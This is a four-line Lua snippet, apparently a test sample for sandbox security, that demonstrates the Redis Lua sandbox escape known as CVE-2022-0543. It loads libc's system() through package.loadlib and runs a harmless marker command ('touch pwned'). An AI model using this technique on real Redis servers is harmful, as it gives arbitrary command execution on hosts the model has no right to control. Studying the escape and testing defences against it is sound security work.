-- Attack: load libc through package.loadlib and call system() directly
-- (the way out of Redis, CVE-2022-0543).
local system = package.loadlib("/lib/x86_64-linux-gnu/libc.so.6", "system")
system("touch pwned")
